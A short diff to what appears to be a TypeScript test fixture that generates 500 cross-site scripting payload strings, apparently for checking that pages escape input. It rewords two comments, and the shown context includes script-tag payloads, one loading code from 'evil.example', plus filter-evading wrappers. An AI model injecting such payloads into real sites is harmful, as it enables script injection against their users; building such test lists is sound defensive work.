@@ -1,4 +1,4 @@
-/** Texts that would do something, if a page took them for anything but text. */
+/** Strings that would have an effect if a page treated them as anything but text. */
 const BASES = [
   "<script>hit()</script>",
   "<script src=https://evil.example/x.js></script>",
@@ -50,5 +50,5 @@ const AROUND: ReadonlyArray<(text: string) => string> = [
   (text) => `\u00a0${text.replaceAll(" ", "/").replaceAll("<", "<\u00a0")}`,
 ];
 
-/** 500 of them, each different. */
+/** 500 different payloads. */
 export const PAYLOADS: readonly string[] = AROUND.flatMap((wrap) => BASES.map(wrap));
